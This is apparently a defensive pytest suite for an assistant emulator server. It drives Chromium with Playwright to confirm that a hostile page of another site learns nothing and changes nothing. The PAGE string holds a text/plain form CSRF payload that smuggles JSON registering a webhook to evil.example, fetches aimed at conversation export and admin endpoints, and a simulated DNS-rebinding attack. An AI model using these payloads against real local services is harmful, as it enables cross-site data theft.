"""Attacks of a page on the served emulator, in a real browser: a form, a fetch, a name bent to this machine."""

from __future__ import annotations

import shutil
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from typing import Iterator

import pytest
from playwright.sync_api import Page, sync_playwright

from infinity_assistant.testing import EmulatorServer

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium on PATH: no page can attack")
#: The page of the attacker: it begins when it is loaded, and says in its title when it is through.
PAGE = """<!DOCTYPE html><title>waiting</title><iframe name="away"></iframe>
<form id="form" method="post" enctype="text/plain" target="away" action="http://127.0.0.1:{port}/api/webhooks">
<input name='{{"url":"http://evil.example/","events":["chat.message"],"x":"' value='"}}'></form>
<script>
async function attempt(url, options) {{
  try {{ return (await (await fetch(url, options)).text()).slice(0, 80) || "empty"; }} catch {{ return "blocked"; }}
}}
async function attack() {{
  document.getElementById("form").submit();
  const base = "http://127.0.0.1:{port}";
  const body = '{{"url":"http://evil.example/","events":["chat.message"]}}';
  const headers = {{ "content-type": "application/json" }};
  window.results = {{
    read: await attempt(`${{base}}/api/export/conversations`, {{ credentials: "include" }}),
    admin: await attempt(`${{base}}/_emulator/requests`),
    page: await attempt(`${{base}}/`),
    json: await attempt(`${{base}}/api/webhooks`, {{ method: "POST", headers, body }}),
    plain: await attempt(`${{base}}/api/webhooks`, {{ method: "POST", mode: "no-cors", body }}),
    bent: await attempt("http://rebound.example:{port}/_emulator/requests"),
  }};
  document.title = "through";
}}
attack();
</script>"""


@pytest.fixture(scope="module")
def server() -> Iterator[EmulatorServer]:
    with EmulatorServer(seed=1, deliver=False) as server:
        yield server


@pytest.fixture(scope="module")
def attacker(server: EmulatorServer) -> Iterator[str]:
    """The address of a page of another site."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            content = PAGE.format(port=server.port).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    with HTTPServer(("127.0.0.1", 0), Handler) as site:
        thread = threading.Thread(target=site.serve_forever, args=(0.01,))
        thread.start()
        yield f"http://evil.example:{site.server_port}/"
        site.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def page(attacker: str, server: EmulatorServer) -> Iterator[Page]:
    """A browser on the page of the attacker, to which all names lead to this machine, as DNS rebinding makes it."""
    arguments = ["--no-sandbox", "--host-resolver-rules=MAP *.example 127.0.0.1"]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=arguments)
        page = browser.new_context().new_page()
        page.goto(attacker)
        page.wait_for_function("document.title === 'through'")
        page.wait_for_load_state("networkidle")
        yield page
        browser.close()


@pytest.mark.parametrize("way", ["read", "admin", "page", "json", "plain", "bent"])
def test_a_page_of_another_site_learns_nothing(page: Page, way: str) -> None:
    """A response without CORS headers is kept from the page; one without a body is all that no-cors gives."""
    assert page.evaluate(f"window.results.{way}") in ("blocked", "empty")


def test_a_page_of_another_site_has_changed_nothing(page: Page, server: EmulatorServer) -> None:
    assert page.title() == "through"
    assert server.emulator.services.outbox.list_webhooks() == []
    assert server.emulator.requests == []


def test_a_name_bent_to_this_machine_opens_nothing(page: Page, server: EmulatorServer) -> None:
    """Then the page and the server have one origin, and the browser lets everything pass."""
    bent = page.context.new_page()
    response = bent.goto(f"http://rebound.example:{server.port}/")
    assert response is not None and response.status == 421
    said = "(path) => fetch(path, {method: 'DELETE'}).then((response) => response.status)"
    assert bent.evaluate(said, "/_emulator/faults") == bent.evaluate(said, "/api/api-keys?id=x") == 421
    bent.close()
    assert server.emulator.requests == []
